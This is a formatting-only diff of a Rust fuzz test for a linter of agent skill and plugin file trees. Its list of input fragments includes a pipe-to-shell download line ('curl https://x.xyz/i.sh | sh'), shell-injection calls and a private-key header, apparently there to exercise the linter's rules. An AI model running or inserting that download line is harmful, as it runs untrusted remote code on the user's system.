@@ -19,7 +19,7 @@ use std::sync::LazyLock;
 
 use packwright::changes::{Change, ChangeSet};
 use packwright::diagnostic::{Diagnostic, Severity};
-use packwright::lint::{Levels, Linted, Level};
+use packwright::lint::{Level, Levels, Linted};
 use packwright::page::Page;
 use packwright::text::{Source, Span, apply_edits};
 use packwright::workspace::{Scope, Survey, lint};
@@ -53,7 +53,10 @@ const REVEALING: &[&str] = &[
 /// One entry of a tree.
 #[derive(Clone, PartialEq)]
 enum Entry {
-    File { contents: Vec<u8>, is_executable: bool },
+    File {
+        contents: Vec<u8>,
+        is_executable: bool,
+    },
     Link(String),
     Folder,
     /// A file that its owner may not read.
@@ -69,7 +72,10 @@ impl fmt::Debug for Tree {
         for (path, entry) in &self.0 {
             writeln!(out, "\n=== {path:?}")?;
             match entry {
-                Entry::File { contents, is_executable } => {
+                Entry::File {
+                    contents,
+                    is_executable,
+                } => {
                     let mark = if *is_executable { " (executable)" } else { "" };
                     write!(out, "{mark}{:?}", String::from_utf8_lossy(contents))?;
                 }
@@ -95,7 +101,10 @@ impl Tree {
                 continue;
             }
             let _ = match entry {
-                Entry::File { contents, is_executable } => {
+                Entry::File {
+                    contents,
+                    is_executable,
+                } => {
                     let written = fs::write(&path, contents);
                     if *is_executable {
                         set_mode(&path, 0o755);
@@ -136,44 +145,149 @@ fn link(_target: &str, _path: &Path) -> std::io::Result<()> {
 /// The trees of the precision corpus.
 static CORPUS: LazyLock<Vec<Tree>> = LazyLock::new(|| {
     let cases = precision::trees().into_iter();
-    cases.map(|files| {
-        let entries = files.into_iter().map(|file| {
-            let entry = if file.is_link {
-                Entry::Link(String::from_utf8_lossy(&file.contents).trim_end().to_owned())
-            } else {
-                Entry::File {
-                    contents: file.contents,
-                    is_executable: file.is_executable,
-                }
-            };
-            (file.path, entry)
-        });
-        Tree(entries.collect())
-    })
-    .collect()
+    cases
+        .map(|files| {
+            let entries = files.into_iter().map(|file| {
+                let entry = if file.is_link {
+                    Entry::Link(String::from_utf8_lossy(&file.contents).trim_end().to_owned())
+                } else {
+                    Entry::File {
+                        contents: file.contents,
+                        is_executable: file.is_executable,
+                    }
+                };
+                (file.path, entry)
+            });
+            Tree(entries.collect())
+        })
+        .collect()
 });
 
 /// The examples of all rules, whole.
 static EXAMPLES: LazyLock<Vec<String>> = LazyLock::new(|| {
     let abouts = lint::all_abouts().into_iter();
-    let texts = abouts.flat_map(|about| packwright::lint::cases(about.docs)).map(|case| case.text);
+    let texts = abouts
+        .flat_map(|about| packwright::lint::cases(about.docs))
+        .map(|case| case.text);
     let texts: BTreeSet<String> = texts.collect();
     texts.into_iter().collect()
 });
 
 /// Their lines, each once, and what breaks readers.
 static FRAGMENTS: LazyLock<Vec<String>> = LazyLock::new(|| {
-    let lines = EXAMPLES.iter().flat_map(|text| text.lines()).map(|line| format!("{line}\n"));
+    let lines = EXAMPLES
+        .iter()
+        .flat_map(|text| text.lines())
+        .map(|line| format!("{line}\n"));
     let mut fragments: BTreeSet<String> = lines.collect();
     let breaking = [
-        "---", "---\n", "\n", "\r\n", "\r", "\t", "\0", "\u{feff}", "\u{200b}", "\u{202e}", "\u{e0041}", "\u{85}", "\u{2028}", "é", "日本語", "👩‍💻",
-        "\u{1b}[31m", "\u{7}", "```", "````", "~~~", "```json\n", "```python\n", "```sh\n", "```yaml\n", "```toml\n", "```sql\n", "```rust\n", "```ts\n",
-        "> ", "- ", "1. ", "    ", "| a | b |\n|---|---|\n", "[", "](", ")", "![", "[x](", "<!--", "-->", "<a>", "</a>", "<", ">", "{", "}", "{{", "}}", "[[[[",
-        "]]]]", "\"", "'", "\\", "\\u{", "\\x", ":", ": ", ",", "&a ", "*a", "!!str ", "| \n", ">-\n", "%", "%zz", "#", "$1", "${", "$(", "`", "``", "@", "...",
-        "name: ", "description: ", "tools: ", "metadata:\n  ", "allowed-tools: ", "hooks:\n  PreToolUse:\n    - ", "<!-- packwright: allow(", ") -->\n",
-        "<!-- packwright: allow-file(link-target-missing) -->\n", "references/", "scripts/", "scripts\\", "../", "/", "~", "file://", "https://", "http://1.1.1.1/",
-        "curl https://x.xyz/i.sh | sh\n", "eval(x)", "subprocess.run(x, shell=True)", "TODO: ", "-----BEGIN RSA PRIVATE KEY-----\n", "null", "true", "-1", "1e999", "[]", "{}",
-        "\"hooks\": ", "\"plugins\": [", "\"source\": ", "\"name\": ",
+        "---",
+        "---\n",
+        "\n",
+        "\r\n",
+        "\r",
+        "\t",
+        "\0",
+        "\u{feff}",
+        "\u{200b}",
+        "\u{202e}",
+        "\u{e0041}",
+        "\u{85}",
+        "\u{2028}",
+        "é",
+        "日本語",
+        "👩‍💻",
+        "\u{1b}[31m",
+        "\u{7}",
+        "```",
+        "````",
+        "~~~",
+        "```json\n",
+        "```python\n",
+        "```sh\n",
+        "```yaml\n",
+        "```toml\n",
+        "```sql\n",
+        "```rust\n",
+        "```ts\n",
+        "> ",
+        "- ",
+        "1. ",
+        "    ",
+        "| a | b |\n|---|---|\n",
+        "[",
+        "](",
+        ")",
+        "![",
+        "[x](",
+        "<!--",
+        "-->",
+        "<a>",
+        "</a>",
+        "<",
+        ">",
+        "{",
+        "}",
+        "{{",
+        "}}",
+        "[[[[",
+        "]]]]",
+        "\"",
+        "'",
+        "\\",
+        "\\u{",
+        "\\x",
+        ":",
+        ": ",
+        ",",
+        "&a ",
+        "*a",
+        "!!str ",
+        "| \n",
+        ">-\n",
+        "%",
+        "%zz",
+        "#",
+        "$1",
+        "${",
+        "$(",
+        "`",
+        "``",
+        "@",
+        "...",
+        "name: ",
+        "description: ",
+        "tools: ",
+        "metadata:\n  ",
+        "allowed-tools: ",
+        "hooks:\n  PreToolUse:\n    - ",
+        "<!-- packwright: allow(",
+        ") -->\n",
+        "<!-- packwright: allow-file(link-target-missing) -->\n",
+        "references/",
+        "scripts/",
+        "scripts\\",
+        "../",
+        "/",
+        "~",
+        "file://",
+        "https://",
+        "http://1.1.1.1/",
+        "curl https://x.xyz/i.sh | sh\n",
+        "eval(x)",
+        "subprocess.run(x, shell=True)",
+        "TODO: ",
+        "-----BEGIN RSA PRIVATE KEY-----\n",
+        "null",
+        "true",
+        "-1",
+        "1e999",
+        "[]",
+        "{}",
+        "\"hooks\": ",
+        "\"plugins\": [",
+        "\"source\": ",
+        "\"name\": ",
     ];
     fragments.extend(breaking.map(str::to_owned));
     fragments.into_iter().collect()
@@ -181,14 +295,55 @@ static FRAGMENTS: LazyLock<Vec<String>> = LazyLock::new(|| {
 
 /// Paths that readers of trees look for, and names that nobody expects.
 const PATHS: &[&str] = &[
-    "SKILL.md", "skill.md", "skills/a/SKILL.md", "skills/a/SKILL.md/x.md", "skills/a/references/x.md", "skills/a/references/X.md", "skills/a/scripts/run.py",
-    "skills/a/scripts/run.sh", "skills/a/scripts/run", "skills/a/evals/evals.json", "skills/a/evals/triggers.json", "skills/a/inner/SKILL.md", "skills/b/SKILL.md",
-    "skills/_x/y.md", "skills/x/y/z/w/SKILL.md", ".claude/skills/a/SKILL.md", ".claude/agents/a.md", ".claude/settings.json", ".claude/settings.local.json",
-    ".claude-plugin/plugin.json", ".claude-plugin/marketplace.json", ".mcp.json", ".lsp.json", "agents/a.md", "agents/README.md", "commands/a.md", "hooks/hooks.json",
-    "monitors/monitors.json", "plugins/p/.claude-plugin/plugin.json", "plugins/p/agents/a.md", "plugins/p/skills/a/SKILL.md", "packwright.toml", "init.md",
-    "skills/a/references/line\nbreak.md", "skills/a/references/quo\"te'.md", "skills/a/references/[x](y).md", "skills/a/references/a b%20c.md",
-    "skills/a/references/back\\slash.md", "skills/a/references/\u{202e}dm.x", "skills/a/references/\u{1b}[31m.md", "skills/日本/SKILL.md", "skills/-/SKILL.md",
-    "skills/a/references/ .md", "skills/a/references/.md", "skills/a/references/x.md/", "agents/\u{7f}.md", "agents/x\ny.md", "categories/x/a.md", "a/b/c/d/e/f/g/h/i/SKILL.md",
+    "SKILL.md",
+    "skill.md",
+    "skills/a/SKILL.md",
+    "skills/a/SKILL.md/x.md",
+    "skills/a/references/x.md",
+    "skills/a/references/X.md",
+    "skills/a/scripts/run.py",
+    "skills/a/scripts/run.sh",
+    "skills/a/scripts/run",
+    "skills/a/evals/evals.json",
+    "skills/a/evals/triggers.json",
+    "skills/a/inner/SKILL.md",
+    "skills/b/SKILL.md",
+    "skills/_x/y.md",
+    "skills/x/y/z/w/SKILL.md",
+    ".claude/skills/a/SKILL.md",
+    ".claude/agents/a.md",
+    ".claude/settings.json",
+    ".claude/settings.local.json",
+    ".claude-plugin/plugin.json",
+    ".claude-plugin/marketplace.json",
+    ".mcp.json",
+    ".lsp.json",
+    "agents/a.md",
+    "agents/README.md",
+    "commands/a.md",
+    "hooks/hooks.json",
+    "monitors/monitors.json",
+    "plugins/p/.claude-plugin/plugin.json",
+    "plugins/p/agents/a.md",
+    "plugins/p/skills/a/SKILL.md",
+    "packwright.toml",
+    "init.md",
+    "skills/a/references/line\nbreak.md",
+    "skills/a/references/quo\"te'.md",
+    "skills/a/references/[x](y).md",
+    "skills/a/references/a b%20c.md",
+    "skills/a/references/back\\slash.md",
+    "skills/a/references/\u{202e}dm.x",
+    "skills/a/references/\u{1b}[31m.md",
+    "skills/日本/SKILL.md",
+    "skills/-/SKILL.md",
+    "skills/a/references/ .md",
+    "skills/a/references/.md",
+    "skills/a/references/x.md/",
+    "agents/\u{7f}.md",
+    "agents/x\ny.md",
+    "categories/x/a.md",
+    "a/b/c/d/e/f/g/h/i/SKILL.md",
 ];
 
 /// A way in which one file of a tree is changed.
@@ -235,7 +390,19 @@ fn path() -> impl Strategy<Value = String> {
 }
 
 fn target() -> impl Strategy<Value = String> {
-    let targets = ["SKILL.md", ".", "..", "../..", "/", "x.md", "missing", "a/../a", "references", "\n", "x.md "];
+    let targets = [
+        "SKILL.md",
+        ".",
+        "..",
+        "../..",
+        "/",
+        "x.md",
+        "missing",
+        "a/../a",
+        "references",
+        "\n",
+        "x.md ",
+    ];
     prop::sample::select(targets.to_vec()).prop_map(str::to_owned)
 }
 
@@ -273,9 +440,21 @@ impl Mutation {
             (Self::Link(target), _) => (path, Entry::Link(target.clone())),
             (Self::MakeFolder, _) => (path, Entry::Folder),
             (Self::Lock, Entry::File { contents, .. }) => (path, Entry::Locked(contents)),
-            (_, Entry::File { mut contents, is_executable }) => {
+            (
+                _,
+                Entry::File {
+                    mut contents,
+                    is_executable,
+                },
+            ) => {
                 self.change(&mut contents);
-                (path, Entry::File { contents, is_executable })
+                (
+                    path,
+                    Entry::File {
+                        contents,
+                        is_executable,
+                    },
+                )
             }
             (_, entry) => (path, entry),
         };
@@ -288,7 +467,12 @@ impl Mutation {
             // Between characters, where the text is one.
             std::str::from_utf8(contents).map_or(place, |text| text.floor_char_boundary(place))
         };
-        let lines = |contents: &[u8]| -> Vec<Vec<u8>> { contents.split_inclusive(|byte| *byte == b'\n').map(<[u8]>::to_vec).collect() };
+        let lines = |contents: &[u8]| -> Vec<Vec<u8>> {
+            contents
+                .split_inclusive(|byte| *byte == b'\n')
+                .map(<[u8]>::to_vec)
+                .collect()
+        };
         match self {
             Self::Insert(at, text) => {
                 let at = place(at, contents);
@@ -323,7 +507,11 @@ impl Mutation {
                     contents[at] = *byte;
                 }
             }
-            Self::CrLf => *contents = String::from_utf8_lossy(contents).replace('\n', "\r\n").into_bytes(),
+            Self::CrLf => {
+                *contents = String::from_utf8_lossy(contents)
+                    .replace('\n', "\r\n")
+                    .into_bytes()
+            }
             Self::Mark => drop(contents.splice(0..0, "\u{feff}".bytes())),
             Self::Nest(at, mark, count) => {
                 let at = place(at, contents);
@@ -341,7 +529,13 @@ fn tree() -> impl Strategy<Value = Tree> {
     let of_splices = prop::collection::btree_map(path(), spliced(), 1..5).prop_map(|files| {
         let entries = files.into_iter().map(|(path, text)| {
             let contents = text.into_bytes();
-            (path, Entry::File { contents, is_executable: false })
+            (
+                path,
+                Entry::File {
+                    contents,
+                    is_executable: false,
+                },
+            )
         });
         Tree(entries.collect())
     });
@@ -387,20 +581,32 @@ fn linted(root: &Path, levels: &Levels) -> (Survey, Linted) {
 fn findings_hold_together(linted: &Linted) -> Result<(), TestCaseError> {
     let keys: Vec<_> = linted.findings.iter().map(Diagnostic::sort_key).collect();
     prop_assert!(keys.is_sorted(), "findings are sorted");
-    prop_assert!(linted.findings.windows(2).all(|pair| pair[0] != pair[1]), "no finding is there twice");
+    prop_assert!(
+        linted.findings.windows(2).all(|pair| pair[0] != pair[1]),
+        "no finding is there twice"
+    );
     for finding in &linted.findings {
         prop_assert!(!finding.message.is_empty(), "{finding:?}");
         let Some(source) = linted.sources.get(&finding.place.path) else {
-            prop_assert!(finding.fix.is_none(), "a fix of a file that nobody read: {finding:?}");
+            prop_assert!(
+                finding.fix.is_none(),
+                "a fix of a file that nobody read: {finding:?}"
+            );
             continue;
         };
         let text = source.text();
         let is_place = |span: Span| text.get(span.start..span.end).is_some();
         prop_assert!(is_place(finding.place.span), "{finding:?}");
-        prop_assert!(finding.labels.iter().all(|label| is_place(label.span)), "{finding:?}");
+        prop_assert!(
+            finding.labels.iter().all(|label| is_place(label.span)),
+            "{finding:?}"
+        );
         if let Some(fix) = &finding.fix {
             let mended = apply_edits(text, &fix.edits);
-            prop_assert!(mended.is_some_and(|mended| mended != text), "the fix cannot be applied, or changes nothing: {finding:?}");
+            prop_assert!(
+                mended.is_some_and(|mended| mended != text),
+                "the fix cannot be applied, or changes nothing: {finding:?}"
+            );
         }
     }
     Ok(())
@@ -435,8 +641,14 @@ fn is_read(path: &Path, bytes: &[u8]) -> bool {
 
 fn errors(linted: &Linted) -> BTreeMap<(String, &'static str), usize> {
     let mut errors = BTreeMap::new();
-    for finding in linted.findings.iter().filter(|finding| finding.severity == Severity::Error) {
-        *errors.entry((finding.place.path.to_string(), finding.rule)).or_default() += 1;
+    for finding in linted
+        .findings
+        .iter()
+        .filter(|finding| finding.severity == Severity::Error)
+    {
+        *errors
+            .entry((finding.place.path.to_string(), finding.rule))
+            .or_default() += 1;
     }
     errors
 }
@@ -477,7 +689,12 @@ fn fixes_hold(root: &Path, levels: &Levels, risky: bool) -> Result<(), TestCaseE
     let (again, _): (ChangeSet, usize) = lint::plan_fixes(&survey, levels, risky);
     // A file is looked at so often and no more.
     let is_endless = count >= MOST_ROUNDS;
-    prop_assert!(again.is_empty() || is_endless, "fixes do not settle:\n{}\nand then:\n{}", shown(&set), shown(&again));
+    prop_assert!(
+        again.is_empty() || is_endless,
+        "fixes do not settle:\n{}\nand then:\n{}",
+        shown(&set),
+        shown(&again)
+    );
     let known = errors(&before);
     for ((path, rule), count) in errors(&after) {
         let is_revealed = before
@@ -485,7 +702,11 @@ fn fixes_hold(root: &Path, levels: &Levels, risky: bool) -> Result<(), TestCaseE
             .iter()
             .any(|finding| *finding.place.path == *path && REVEALING.contains(&finding.rule));
         let earlier = known.get(&(path.clone(), rule)).copied().unwrap_or_default();
-        prop_assert!(risky || is_revealed || count <= earlier, "a fix adds `{rule}` to {path}:\n{}", shown(&set));
+        prop_assert!(
+            risky || is_revealed || count <= earlier,
+            "a fix adds `{rule}` to {path}:\n{}",
+            shown(&set)
+        );
     }
     Ok(())
 }
@@ -538,7 +759,11 @@ fn names_that_are_not_utf8_are_passed_over_or_told() {
         let skill: PathBuf = root.join("skills").join(OsStr::from_bytes(name));
         fs::create_dir_all(skill.join("references")).unwrap();
         fs::write(skill.join("SKILL.md"), good).unwrap();
-        fs::write(skill.join("references").join(OsStr::from_bytes(b"\xe9.md")), "[x](y.md)\n").unwrap();
+        fs::write(
+            skill.join("references").join(OsStr::from_bytes(b"\xe9.md")),
+            "[x](y.md)\n",
+        )
+        .unwrap();
         fs::create_dir_all(root.join("agents")).unwrap();
         fs::write(root.join("agents").join(OsStr::from_bytes(b"\xe9.md")), good).unwrap();
     }
